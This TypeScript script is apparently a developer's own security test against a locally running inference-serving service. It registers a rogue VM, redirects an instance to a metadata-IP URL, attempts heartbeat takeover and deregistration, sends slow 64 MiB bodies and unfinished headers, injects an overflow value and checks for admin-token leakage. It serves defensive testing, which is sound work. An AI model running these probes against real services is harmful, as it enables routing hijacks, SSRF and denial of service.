// Manual attack run against a running `npm start` (not part of the repo; deleted after).
import { createServer } from "node:http";
import { connect } from "node:net";
import { execSync } from "node:child_process";
import { signRequest, vmKey } from "./core/signing.js";
import { readDevVars } from "./scripts/dev-vars.js";

const PORT = Number(process.env.PORT ?? 18787);
const URL0 = `http://127.0.0.1:${PORT}`;
const vars = readDevVars(".dev.vars");
const master = vars.SERFLOW_SIGNING_KEY;
const ADMIN = { authorization: `Bearer ${vars.SERFLOW_ADMIN_TOKEN}` };
const workerdPid = Number(process.env.WORKERD_PID ?? 0);
const rss = (pid: number) => (pid ? Number(execSync(`ps -o rss= -p ${pid}`).toString().trim()) / 1024 : NaN);

const rogueCalls: string[] = [];
const rogue = createServer((req, res) => {
  rogueCalls.push(`${req.method} ${req.url}`);
  res.end("{}");
}).listen(29555, "127.0.0.1");
const ROGUE = "http://127.0.0.1:29555";

async function beat(report: any, signer: string, key?: string, action = "heartbeat") {
  const path = `/internal/v1/vms/mnist/${action}`;
  const body = new TextEncoder().encode(JSON.stringify(report));
  const headers = await signRequest(key ?? (await vmKey(master, signer)), signer, "POST", path, body);
  const res = await fetch(URL0 + path, { method: "POST", body, headers });
  return `${res.status} ${await res.text()}`;
}
const plan = async () => (await (await fetch(`${URL0}/v2/models/mnist/plan`, { headers: ADMIN })).json()) as any;
function raw(port: number, head: string, first = 0) {
  const sock = connect(port, "127.0.0.1");
  const t0 = Date.now();
  let answer = "";
  let answeredMs = -1;
  sock.on("data", (d) => {
    if (answeredMs < 0) answeredMs = Date.now() - t0;
    answer += d.toString();
  });
  sock.on("error", () => {});
  const closed = new Promise<number>((r) => sock.on("close", () => r(Date.now() - t0)));
  sock.write(head);
  if (first) sock.write(Buffer.alloc(first, 0x20));
  return { sock, closed, answer: () => answer, answeredMs: () => answeredMs };
}

const p0 = await plan();
console.log("instances:", JSON.stringify(p0.vms.instances.map((v: any) => [v.id, v.url, v.state, v.slots])));
const rogueReport = { id: "rogue-1", url: ROGUE, state: "running", inflight: 0, slots: 1_000_000 };
console.log("1. rogue-1 heartbeat (own derived key):", await beat(rogueReport, "rogue-1"));
console.log("   rogue-1 heartbeat with url 169.254.169.254:", await beat({ ...rogueReport, url: "http://169.254.169.254" }, "rogue-1"));
const digit = Array(784).fill(0.1);
let routes: Record<string, number> = {};
for (const force of ["vm", "vm", "vm", "vm", "vm", undefined, undefined, undefined, undefined, undefined]) {
  const res = await fetch(`${URL0}/v2/models/mnist/infer`, {
    method: "POST",
    body: JSON.stringify({
      inputs: [{ name: "input", shape: [1, 784], datatype: "FP32", data: digit }],
      parameters: force ? { serflow_force: force, exit_threshold: 1 } : { exit_threshold: 1 },
    }),
  });
  const j = (await res.json()) as any;
  const k = `${res.status} ${j.parameters?.serflow_route ?? j.error}`;
  routes[k] = (routes[k] ?? 0) + 1;
}
console.log("   10 infers (5 forced to vm):", JSON.stringify(routes), "rogue listener calls:", rogueCalls.length);
console.log("   plan ids:", JSON.stringify((await plan()).vms.instances.map((v: any) => v.id)));
const target = p0.vms.instances[0]?.id ?? "local-1";
const takeover = { id: target, url: ROGUE, state: "running", inflight: 0, slots: 4 };
console.log(`2. ${target} -> rogue URL, signed with rogue key as ${target}:`, await beat(takeover, target, await vmKey(master, "rogue-1")));
console.log(`   ${target} -> rogue URL, signed by rogue-1:`, await beat(takeover, "rogue-1"));
console.log(`   ${target} -> rogue URL, signed with ${target}'s own key:`, await beat(takeover, target));
console.log(`   deregister ${target} by rogue-1:`, await beat({ id: target }, "rogue-1", undefined, "deregister"));
console.log(`   slots 1e6 from ${target} itself (own URL):`, await beat({ ...takeover, url: p0.vms.instances[0]?.url, slots: 1_000_000 }, target));
const p1 = await plan();
console.log("   after:", JSON.stringify(p1.vms.instances.map((v: any) => [v.id, v.url, v.state, v.slots])), "config slots", p1.config.vm.slots);
console.log("   rogue listener calls:", rogueCalls.length);

const before = rss(workerdPid);
const t = raw(PORT, `POST /internal/v1/vms/mnist/heartbeat HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${64 * 1024 * 1024}\r\n\r\n`, 16 * 1024);
let sent = 16 * 1024;
const trickle = setInterval(() => {
  if (!t.sock.destroyed && sent < 64 * 1024 * 1024) {
    t.sock.write(Buffer.alloc(64 * 1024, 0x20));
    sent += 64 * 1024;
  }
}, 50);
const closedIn = await Promise.race([t.closed, new Promise<number>((r) => setTimeout(() => r(-1), 10_000))]);
clearInterval(trickle);
console.log(`3. unsigned 64 MiB heartbeat: answered after ${t.answeredMs()} ms, ${JSON.stringify(t.answer().split("\r\n")[0])}, ${(sent / 1024).toFixed(0)} KiB sent by then-ish, connection closed after ${closedIn} ms; workerd RSS ${before.toFixed(0)} -> ${rss(workerdPid).toFixed(0)} MB`);
t.sock.destroy();

const vmPort = Number(new URL(p0.vms.instances[0].url).port);
const slow = raw(vmPort, "POST /internal/v1/deep HTTP/1.1\r\nhost: x\r\nx-slow: ");
console.log(`4. vm-service, unfinished headers: closed after ${await slow.closed} ms`);
const up = raw(vmPort, `POST /internal/v1/deep HTTP/1.1\r\nhost: x\r\ncontent-length: ${64 * 1024 * 1024}\r\n\r\n`, 1024);
console.log(`   vm-service, unsigned 64 MiB: ${JSON.stringify(up.answer().split("\r\n")[0])} closed after ${await up.closed} ms`);
const m = await fetch(`${p0.vms.instances[0].url}/metrics`);
console.log(`   vm-service /metrics unsigned: ${m.status} ${await m.text()}`);

const big = JSON.stringify({ inputs: [{ name: "input", shape: [1, 784], datatype: "FP32", data: digit }] }).replace('"data":[0.1,', '"data":[1e39,');
const r5 = await fetch(`${URL0}/v2/models/mnist/infer`, { method: "POST", body: big });
console.log(`5. 1e39: ${r5.status} ${await r5.text()}`);

const login = await fetch(`${URL0}/dashboard?token=${vars.SERFLOW_ADMIN_TOKEN}`, { redirect: "manual" });
console.log(`6. /dashboard?token=: ${login.status} location=${login.headers.get("location")} set-cookie=${login.headers.get("set-cookie")?.replace(/=[0-9a-f]{64}/, "=<64 hex>")} cache-control=${login.headers.get("cache-control")} referrer-policy=${login.headers.get("referrer-policy")}`);
const page = await fetch(`${URL0}/dashboard`, { headers: { cookie: login.headers.get("set-cookie")!.split(";")[0] } });
console.log(`   /dashboard with the cookie: ${page.status} cache-control=${page.headers.get("cache-control")} referrer-policy=${page.headers.get("referrer-policy")} token in page: ${(await page.text()).includes(vars.SERFLOW_ADMIN_TOKEN)}`);
const st = await fetch(`${URL0}/v2/models/mnist/stats`, { headers: ADMIN });
console.log(`   /stats: ${st.status} cache-control=${st.headers.get("cache-control")} referrer-policy=${st.headers.get("referrer-policy")}`);
rogue.close();
process.exit(0);
